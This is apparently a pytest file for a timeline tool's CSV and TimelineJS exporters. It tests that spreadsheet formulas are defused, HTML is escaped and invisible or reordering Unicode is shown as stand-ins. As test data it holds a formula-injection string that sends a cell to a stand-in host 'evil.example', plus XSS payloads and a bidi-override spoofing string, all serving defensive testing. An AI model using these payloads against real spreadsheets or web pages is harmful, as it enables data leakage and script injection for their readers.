"""Exports that cannot attack their reader: no live formulas in CSV, no markup in TimelineJS.

TimelineJS users import the CSV into Google Sheets, where a cell starting with `=`
is a formula (`=HYPERLINK(...)`, `=IMPORTXML(...)`); TimelineJS puts a media caption,
credit and a slide's group into `innerHTML`. Both are neutralised on the way out and
read back exactly on the way in.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import hidden_data

from timeline.interchange import COLUMNS, from_cell, to_cell
from timeline.model import Era, Event, Media, Precision, Quote, Source, Timeline, When
from timeline.read import load_any
from timeline.text import clean_page
from timeline.write import csv as csv_format
from timeline.write import timelinejs

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "=1",
    "'=1",  # a quote of the user's own before a formula character
    "''=1",
    "'plain",  # a quote before anything else is left alone
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_cells_are_defused_and_read_back(text: str) -> None:
    cell = to_cell(text)
    assert cell.startswith("'") or not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_cell(cell) == text


@pytest.mark.parametrize("number", ["-500", "2018", "0", "-1"])
def test_whole_numbers_stay_numbers(number: str) -> None:
    assert to_cell(number) == number
    assert from_cell(number) == number


def _event(n: int, text: str) -> Event:
    return Event(
        id=f"e{n}",
        when=When(-500 + n, precision=Precision.YEAR, written=str(-500 + n)),
        title=text if text.strip() else "T",
        context=text,
        speaker=text,
        group=text,
        display_date=text,
        media=Media(url="https://example.org/p.jpg", caption=text, credit=text, alt=text),
    )


def _load(path: Path) -> Timeline:
    result = load_any(path)
    assert result.timeline is not None, [str(p) for p in result.problems]
    return result.timeline


def test_csv_export_has_no_live_formula_and_imports_back(tmp_path: Path) -> None:
    timeline = Timeline(
        title="=IMPORTXML(A1)", events=tuple(_event(n, t) for n, t in enumerate(FORMULAS))
    )
    text = csv_format.dumps(timeline)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    for row in rows[1:]:
        for cell in row:
            if cell.lstrip("-").isdigit():
                continue  # a year such as -500 is a number to a spreadsheet
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][COLUMNS.index("Headline")] == "'=IMPORTXML(A1)"
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    back = _load(path)
    assert back.title == "=IMPORTXML(A1)"
    for before, after in zip(timeline.events, back.events, strict=True):
        assert after.when.year == before.when.year
        for name in ("title", "context", "speaker", "group", "display_date", "media"):
            assert getattr(after, name) == getattr(before, name), name


HTML_ATTACKS = [
    '<img src=x onerror="alert(1)">',
    "</div><script>alert(1)</script>",
    "a &amp; b < c",
    "  spaced\tout  ",
    "line\nbreak",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_timelinejs_media_group_and_colour_are_escaped(tmp_path: Path, attack: str) -> None:
    event = Event(
        id="e",
        when=When(2018, 7, 19, written="2018-07-19"),
        title="T",
        group=attack,
        media=Media(url="https://example.org/p.jpg", caption=attack, credit=attack, alt=attack),
        background=f"red;{attack}",
    )
    timeline = Timeline(title="T", events=(event,), media=event.media)
    data = timelinejs.to_dict(timeline)
    slide = data["events"][0]
    shown = [
        slide["group"],
        slide["background"]["color"],
        *(slide["media"][k] for k in ("caption", "credit", "alt")),
        *(data["title"]["media"][k] for k in ("caption", "credit", "alt")),
    ]
    for value in shown:
        assert "<" not in value.replace("<br>", ""), value
    for writer, name in ((timelinejs.dumps, "t.json"), (csv_format.dumps, "t.csv")):
        path = tmp_path / name
        path.write_text(writer(timeline), encoding="utf-8")
        back = _load(path)
        (got,) = back.events
        assert (got.group, got.media, got.background) == (
            event.group,
            event.media,
            event.background,
        )
        assert back.media == event.media


def test_a_colour_written_in_timelinejs_reads_as_itself(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    slide = {"start_date": {"year": 2018}, "text": {"headline": "A"}, "group": "Politics"}
    path.write_text(
        json.dumps({"events": [slide | {"background": {"color": "#ff0000"}}]}), encoding="utf-8"
    )
    (event,) = _load(path).events
    assert (event.background, event.group) == ("#ff0000", "Politics")


#: What reorders or hides what a line says: a right-to-left override (the quote reads
#: backwards from there), a zero-width space, an isolate, and ESC.
UNSEEN = "He said \u202eon\u202c, not yes; Sales\u200bforce \u2066x\u2069 \x1b[2J"


def test_timelinejs_and_csv_show_what_hides_or_reorders_text_as_stand_ins(
    tmp_path: Path,
) -> None:
    # Bug fixed: a bidi override went raw into headlines and text, so the published
    # slide read differently from the file, while the HTML page showed <U+202E>.
    event = Event(
        id="e",
        when=When(2018, 7, 19, written="2018-07-19"),
        title=UNSEEN,
        context=UNSEEN,
        speaker=UNSEEN,
        group=UNSEEN,
        display_date=UNSEEN,
        quotes=(Quote(UNSEEN),),
        media=Media(url="https://example.org/p.jpg", caption=UNSEEN, credit=UNSEEN, alt=UNSEEN),
    )
    era = Era(UNSEEN, When(2018, written="2018"), When(2019, written="2019"), UNSEEN)
    timeline = Timeline(title=UNSEEN, summary=UNSEEN, events=(event,), eras=(era,))
    data = timelinejs.to_dict(timeline)
    slide = data["events"][0]
    shown = [
        slide["text"]["headline"],
        slide["text"]["text"],
        slide["group"],
        slide["display_date"],
        slide["media"]["caption"],
        slide["media"]["credit"],
        data["title"]["text"]["headline"],
        data["title"]["text"]["text"],
        data["eras"][0]["text"]["headline"],
        data["eras"][0]["text"]["text"],
    ]
    unseen = '<span class="timeline-unseen">{}</span>'
    for value in shown:
        value = value.split("<!--")[0]  # the hidden data, which no reader sees
        assert "\u202e" not in value and "\u200b" not in value and "\x1b" not in value, value
        assert unseen.format("&lt;U+202E&gt;") in value, value
    assert slide["text"]["headline"] == (
        f"He said {unseen.format('&lt;U+202E&gt;')}on{unseen.format('&lt;U+202C&gt;')}, not "
        f"yes; Sales{unseen.format('&lt;U+200B&gt;')}force {unseen.format('&lt;U+2066&gt;')}x"
        f"{unseen.format('&lt;U+2069&gt;')} {unseen.format('␛')}[2J"
    )
    # Alt text goes into an attribute, where a span would be markup: kept as it is.
    assert slide["media"]["alt"] == UNSEEN
    for writer, name in ((timelinejs.dumps, "t.json"), (csv_format.dumps, "t.csv")):
        path = tmp_path / name
        text = writer(timeline)
        path.write_text(text, encoding="utf-8")
        if name == "t.csv":
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            assert rows[2]["Headline"] == slide["text"]["headline"]
        back = _load(path)
        (got,) = back.events
        assert (back.title, back.summary) == (UNSEEN, UNSEEN)
        assert got == event._replace(file=str(path), line=got.line)
        assert back.eras == (era,)


#: What a slide shows as a stand-in, beyond `UNSEEN`: a word joiner, a zero-width
#: no-break space (a byte order mark), the Mongolian vowel separator, an invisible
#: operator, tag characters spelling "AB", joiners that join nothing, a C1 control.
#: A joined emoji and a soft hyphen are shown as they are, on the slide and here.
UNSEEN_HIDDEN = (
    f"{UNSEEN} \u2060\ufeff\u180e\u2064 \U000e0041\U000e0042 a\u200db x\u200cy \x85 "
    "\U0001f469\u200d\U0001f469 Silben\u00adtrennung"
)


def test_the_hidden_data_escapes_what_the_slide_shows_as_a_stand_in(tmp_path: Path) -> None:
    # Bug fixed: the hidden data escaped bidi marks and C1 controls, but wrote a
    # zero-width space, a word joiner, a byte order mark, tag characters... as they
    # are: whoever opened the JSON or the sheet's Text cell saw nothing of them, where
    # the slide's own text shows each as a stand-in. They are now JSON escapes
    # (`\u200b`), the characters themselves to the reader.
    source = Source(label=UNSEEN_HIDDEN, url="ftp://x", archive=UNSEEN_HIDDEN, kind=UNSEEN_HIDDEN)
    event = Event(
        id="e",
        when=When(2018, 7, 19, written="2018-07-19"),
        title="T",
        kind=UNSEEN_HIDDEN,
        speaker=UNSEEN_HIDDEN,
        handle=UNSEEN_HIDDEN,
        role=UNSEEN_HIDDEN,
        tags=(UNSEEN_HIDDEN, "\u200b"),
        notes=UNSEEN_HIDDEN,
        sources=(source,),
        quotes=(Quote("q", "", None, source, UNSEEN_HIDDEN),),
    )
    timeline = Timeline(title="T", events=(event,))
    for writer, name in ((timelinejs.dumps, "t.json"), (csv_format.dumps, "t.csv")):
        path = tmp_path / name
        path.write_text(writer(timeline, private=True), encoding="utf-8")
        (comment,) = hidden_data(path)
        assert clean_page(comment) == comment, comment  # nothing shown as a stand-in
        for char in "\u200b\u2060\ufeff\u180e\u2064\U000e0041\u200c\x85\u202e":
            assert char not in comment, (name, char)
        assert "\\u200b" in comment and "\\udb40\\udc41" in comment, comment
        assert "\U0001f469\u200d\U0001f469 Silben\u00adtrennung" in comment
        (got,) = _load(path).events
        assert got == event._replace(file=str(path), line=got.line)


def test_a_stand_in_written_by_hand_is_text_unless_in_its_span(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    headline = (
        "&lt;U+202E&gt; "
        '<span class="timeline-unseen">&lt;U+202E&gt;</span>'
        '<span class="timeline-unseen">&lt;U+0041&gt;</span>'  # "A" has no stand-in
        '<span class="timeline-unseen">&lt;U+202E<b>&gt;</b></span>'
    )
    slide = {"start_date": {"year": 2018}, "text": {"headline": headline}}
    path.write_text(json.dumps({"events": [slide]}), encoding="utf-8")
    (event,) = _load(path).events
    assert event.title == "<U+202E> \u202e<U+0041><U+202E>"
